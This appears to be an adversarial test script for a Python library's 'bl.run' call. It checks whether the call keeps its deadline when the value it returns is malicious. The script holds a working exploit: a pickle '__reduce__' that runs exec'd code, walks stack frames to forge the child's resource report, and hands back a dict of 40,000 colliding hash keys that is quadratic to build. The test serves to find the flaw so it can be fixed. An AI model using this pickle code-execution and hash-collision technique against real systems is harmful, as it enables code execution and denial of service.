"""Promise (docs/reference.md, bl.run): the call "returns within the deadline + about 0.5 s"; a value over 256 KiB
"is rebuilt first in the throwaway child, ... which reports the memory and time it took; the kernel rebuilds it
only if both fit, and not past the deadline".
Attack: the report comes from the child, which is running the value's own code. A rank returns a value whose
unpickling writes the report itself: "handed back, 0 bytes, 0 seconds", followed by a small handed-back pickle of a
dict of 40,000 int keys that all hash to 0 (quadratic to build; unpickle._direct, which guards the kernel against
exactly this, looks only at the rank's pickle, never at what the child hands back). Measured: how long the call
takes past its deadline (deadline=3 s)."""

from _h import run_driver, verdict

DRIVER = r'''
import time, barrierlab as bl

PAYLOAD = """
import os, struct, sys
f = sys._getframe()
while f is not None and "write_fd" not in f.f_locals:
    f = f.f_back
fd = f.f_locals["write_fd"]
M = 2**61 - 1
parts = [b"\\x80\\x04}(" ]
for k in range(1, 40001):
    b = (k * M).to_bytes(16, "little", signed=True)
    parts.append(b"\\x8a" + bytes([len(b)]) + b + b"N")
parts.append(b"u.")
body = struct.pack(">Qd", 0, 0.0) + b"".join(parts)
frame = struct.pack(">BQ", 0, len(body)) + body
view = memoryview(frame)
while view:
    view = view[os.write(fd, view):]
os._exit(0)
"""

class Evil:
    def __reduce__(self):
        return (exec, (PAYLOAD,))

def fn():
    return Evil()

bl.run(lambda: 0, 2)  # warm up
t = time.monotonic()
run = bl.run(fn, 2, timeout=2, deadline=3)
took = time.monotonic() - t
print(repr(run)[:400])
v = run.values[0]
for rr in run:
    print(f"rank {rr.rank}: {rr.status}, value {type(rr.value).__name__} of {len(rr.value) if isinstance(rr.value, dict) else '-'} keys")
print(f"call took {took:.2f} s with deadline 3 s (run.elapsed {run.elapsed:.2f} s)")
'''

r = run_driver(DRIVER, timeout=180)
r.show()
import re

m = re.search(r"call took ([\d.]+) s", r.out)
took = float(m.group(1)) if m else None
verdict(took is None or took > 3.5 + 1.0, f"the call took {took} s against a 3 s deadline")
